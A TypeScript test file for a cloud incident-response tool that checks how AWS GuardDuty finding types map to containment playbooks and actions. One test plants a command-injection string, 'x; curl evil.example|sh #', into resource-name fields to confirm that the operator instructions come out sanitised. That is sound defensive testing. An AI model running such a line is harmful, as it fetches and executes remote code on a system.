import { describe, expect, it } from 'vitest';
import { exampleEvents } from '../../core/example-event/example-events.ts';
import { activeFindingTypes } from '../../core/finding-types.ts';
import type { JsonObject } from '../../core/json.ts';
import { changeEvent } from '../../core/change-event.ts';
import { createSelector } from '../../core/playbook/select-playbooks.ts';
import { score, ScoreConfig } from '../../core/score/score.ts';
import { shippedPlaybooks } from '../../runtime/home/shipped-playbooks.ts';
import { loadLibrary } from '../../runtime/playbooks/library.ts';
import { loadExample } from '../support/findings/load-event.ts';
import { normaliseOne } from '../support/findings/normalise-event.ts';
import { openTestHome } from '../support/home.ts';

/** What a finding names → the playbooks that answer it, in their order, and the actions that people agree to. */
type Answers = Readonly<Record<string, { readonly playbooks: string[]; readonly actions: string[] }>>;

const tells = (...playbooks: string[]) => ({ playbooks, actions: [] });
const key = { playbooks: ['disable-compromised-key'], actions: ['iam.disable-access-key'] };
const role = { playbooks: ['revoke-stolen-role-session'], actions: ['iam.revoke-role-sessions'] };
const isolation = ['ec2.isolate-instance', 'ec2.snapshot-volumes'];
const instance = { playbooks: ['isolate-compromised-instance'], actions: isolation };
const hosted = {
  playbooks: ['contain-compromised-container', 'isolate-compromised-instance'],
  actions: isolation,
};
const sequence = (...actions: string[]) => ({ playbooks: ['contain-attack-sequence'], actions });
const credentials = {
  'iam-access-key+iam-user+s3-bucket': sequence('iam.disable-access-key', 'iam.quarantine-user'),
};

const families: readonly (readonly [RegExp, Answers])[] = [
  [/^AttackSequence:EC2\//, { 'ec2-instance': sequence(...isolation) }],
  [/^AttackSequence:ECS\//, { 'ecs-cluster+ec2-instance': sequence(...isolation) }],
  [/^AttackSequence:EKS\//, { 'eks-cluster+ec2-instance': sequence(...isolation) }],
  [/^AttackSequence:(IAM|S3)\//, credentials],
  [
    /^Recon:EC2\/PortProbe/,
    { 'ec2-instance': { playbooks: ['close-open-admin-ports'], actions: ['ec2.revoke-open-ingress'] } },
  ],
  [/^(?!AttackSequence|Execution|Recon:EC2\/PortProbe)\w+:EC2\//, { 'ec2-instance': instance }],
  [/^Execution:EC2\/\w+$/, { 'ec2-instance': instance }],
  [/^Execution:(EC2|S3)\/MaliciousFile!/, { other: tells('answer-stored-malware') }],
  [/^Execution:Container\//, { 'ec2-instance+container+ebs-volume': hosted }],
  [/^Execution:ECS\//, { 'ecs-cluster+container+ebs-volume': tells('contain-compromised-container') }],
  [
    /^Execution:Kubernetes\/\w+File$/,
    { 'eks-cluster+kubernetes-workload+container': tells('contain-compromised-container') },
  ],
  [
    /:Runtime\//,
    {
      'ec2-instance': instance,
      'ec2-instance+eks-cluster+kubernetes-workload+container': hosted,
      'ecs-cluster+container': tells('contain-compromised-container'),
    },
  ],
  [
    /^(Stealth:IAMUser\/|DefenseEvasion:IAMUser\/Bedrock)/,
    {
      'iam-access-key+iam-user': { ...key, playbooks: [...key.playbooks, 'repair-tampered-controls'] },
      'iam-access-key+iam-role': { ...role, playbooks: ['repair-tampered-controls', ...role.playbooks] },
    },
  ],
  [/^Policy:IAMUser\/RootCredentialUsage$/, { 'iam-access-key': tells('answer-root-usage') }],
  [
    /^Policy:IAMUser\/ShortTerm/,
    {
      'iam-access-key+iam-user': tells('answer-root-usage'),
      'iam-access-key+iam-role': tells('answer-root-usage'),
    },
  ],
  [
    /^Impact:IAMUser\/(AnomalousModel|CostHarvesting)/,
    {
      'iam-access-key+iam-user': { ...key, playbooks: ['stop-model-abuse'] },
      'iam-access-key+iam-role': { ...role, playbooks: ['stop-model-abuse'] },
    },
  ],
  [
    /^Impact:IAMUser\/PromptInjection/,
    {
      'iam-access-key+iam-user': tells('stop-model-abuse'),
      'iam-access-key+iam-role': tells('stop-model-abuse'),
    },
  ],
  [
    /:IAMUser\/InstanceCredentialExfiltration/,
    {
      'ec2-instance+iam-access-key+iam-role': { ...role, actions: ['ec2.snapshot-volumes', ...role.actions] },
    },
  ],
  [
    /^(?!Policy|Stealth)\w+:IAMUser\/(?!Bedrock|AnomalousModel|CostHarvesting|PromptInjection|InstanceCredential)/,
    { 'iam-access-key+iam-user': key, 'iam-access-key+iam-role': role },
  ],
  [
    /^(Discovery|Exfiltration|Impact|PenTest|UnauthorizedAccess):S3\//,
    { 'iam-access-key+iam-user+s3-bucket': key },
  ],
  [
    /^Stealth:S3\//,
    {
      'iam-access-key+iam-user+s3-bucket': {
        ...key,
        playbooks: [...key.playbooks, 'repair-tampered-controls'],
      },
    },
  ],
  [/^Object:S3\//, { 'iam-access-key+iam-user+s3-bucket': tells('answer-stored-malware') }],
  [
    /^Policy:S3\/Account/,
    {
      'iam-access-key+iam-user+s3-bucket': {
        playbooks: ['restore-account-public-block'],
        actions: ['s3.block-account-public-access'],
      },
    },
  ],
  [
    /^Policy:S3\/Bucket/,
    {
      'iam-access-key+iam-user+s3-bucket': {
        playbooks: ['close-public-bucket'],
        actions: ['s3.block-public-access'],
      },
    },
  ],
  [
    /^(?!Execution:Kubernetes\/\w+File$)\w+:Kubernetes\//,
    { 'eks-cluster+kubernetes-workload+container': tells('review-kubernetes-activity') },
  ],
  [
    /:Lambda\//,
    {
      'lambda-function': {
        playbooks: ['contain-compromised-function'],
        actions: ['iam.revoke-role-sessions', 'lambda.throttle-function'],
      },
    },
  ],
  [/:RDS\//, { 'rds-instance': tells('answer-database-login') }],
];

const library = await loadLibrary(shippedPlaybooks);
const select = createSelector(library.playbooks.map(({ playbook }) => playbook));
const nothingKnown = { remotes: [], tags: {}, criticality: 'normal', gaps: [] } as const;

function answersTo(event: JsonObject): readonly [string, readonly string[]] {
  const finding = normaliseOne(event);
  const risk = score(finding, { ...nothingKnown, remotes: [], gaps: [] }, ScoreConfig.parse(undefined));
  return [namesOf(event), select({ finding, risk, incident: {} }).map(({ id }) => id)];
}

const namesOf = (event: JsonObject): string =>
  normaliseOne(event)
    .resources.map(({ kind }) => kind)
    .join('+');

const familiesOf = (type: string) => families.filter(([pattern]) => pattern.test(type));

describe('every active finding type, at severity 8', () => {
  it.each(activeFindingTypes)('%s is answered as its family is', (type) => {
    const found = familiesOf(type);
    expect(found).toHaveLength(1);
    const expected = Object.entries(found[0]?.[1] ?? {}).map(([names, { playbooks }]) => [names, playbooks]);
    expect(exampleEvents(type).map(answersTo)).toEqual(expected);
  });
});

const representatives = families.flatMap(([pattern, answers]) => {
  const type = activeFindingTypes.find((one) => pattern.test(one)) ?? String(pattern);
  return exampleEvents(type).map((event) => [type, namesOf(event), event, answers] as const);
});

describe('where people agree to what they are asked', () => {
  it.each(representatives)('%s that names %s is answered so', async (_type, names, event, answers) => {
    const home = await openTestHome({ library, answer: 'approved' });
    try {
      await home.send(event);
      const { actions, playbooks, status } = await home.incident();
      const expected = answers[names];
      expect(playbooks.map(({ id }) => id)).toEqual(expected?.playbooks);
      expect(actions.map(({ action }) => action).toSorted()).toEqual(expected?.actions);
      expect(new Set(actions.map((one) => `${one.status} ${one.verified}`))).toEqual(
        new Set(actions.length === 0 ? [] : ['applied contained']),
      );
      expect(status).toBe(actions.length === 0 ? 'not-contained' : 'contained');
      // Who is told is told what to do.
      const told = (await home.report()).notifications.filter(({ kind }) => kind === 'note');
      if (actions.length === 0) expect(told.map(({ body }) => body).join()).toMatch(/\n1\. .*\n2\. /);
    } finally {
      await home.close();
    }
  });
});

const hostile = 'x; curl evil.example|sh #';

describe('a name that would run as a command', () => {
  const examples: [string, string][] = [
    ['eks-pod-mining', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/name'],
    ['eks-pod-mining', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/namespace'],
    ['ecs-task-mining', '/detail/resource/ecsClusterDetails/name'],
    ['kubernetes-privileged-container', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/type'],
    ['rds-brute-force', '/detail/resource/rdsDbInstanceDetails/dbClusterIdentifier'],
    ['role-credentials-exfiltrated', '/detail/resource/instanceDetails/instanceId'],
  ];
  it.each(examples)('is harmless in what %s tells people to type (%s)', async (example, pointer) => {
    const home = await openTestHome({ library, config: { mode: 'shadow' } });
    try {
      await home.send(changeEvent(loadExample(example), { [pointer]: hostile }));
      const notes = (await home.report()).notifications.filter(({ kind }) => kind === 'note');
      const steps = notes.flatMap(({ body }) => body.split('\n').filter((line) => /^\d\. /.test(line)));
      expect(steps.join('\n')).toContain('x??curl?evil.example?sh??');
      expect(steps.filter((line) => line.includes(hostile))).toEqual([]);
    } finally {
      await home.close();
    }
  });
});

/** https://docs.aws.amazon.com/guardduty/latest/ug/findings-custom-detection-rules.html, November 2026 */
const customRules = [
  'CredentialAccess:EC2/UnsecuredCredentials',
  'CredentialAccess:RDS/ModifyAuthenticationProcess',
  'DefenseImpairment:EC2/DisableOrModifyTools',
  'DefenseImpairment:Organizations/DisableOrModifyTools',
  'DefenseImpairment:Organizations/ModifyCloudResourceHierarchy',
  'DefenseImpairment:RDS/ModifyAuthenticationProcess',
  'DefenseImpairment:Route53Resolver/DisableOrModifyTools',
  'DefenseImpairment:S3/DisableOrModifyTools',
  'Execution:SageMaker/CommandAndScriptingInterpreter',
  'Exfiltration:EC2/TransferDataToCloudAccount',
  'Exfiltration:RDS/TransferDataToCloudAccount',
  'Exfiltration:S3/TransferDataToCloudAccount',
  'Impact:S3/DataDestruction',
  'Impact:SES/ResourceHijacking',
  'InitialAccess:IAM/ValidAccounts',
  'InitialAccess:RDS/ExploitPublicFacingApplication',
  'LateralMovement:EC2/RemoteServices',
  'Persistence:EC2/BootOrLogonInitializationScripts',
  'Persistence:EC2/ExternalRemoteServices',
  'Persistence:IAM/AccountManipulation',
  'Persistence:Lambda/AccountManipulation',
  'Persistence:Lambda/ModifyAuthenticationProcess',
  'Persistence:RolesAnywhere/AccountManipulation',
  'PrivilegeEscalation:IAM/AccountManipulation',
  'ResourceDevelopment:SES/CompromiseAccounts',
];

describe('types of custom detection rules', () => {
  it.each(customRules)('%s is told to people, and contains nothing by itself', (type) => {
    for (const event of exampleEvents(type)) expect(answersTo(event)[1]).toEqual(['review-custom-detection']);
  });
});
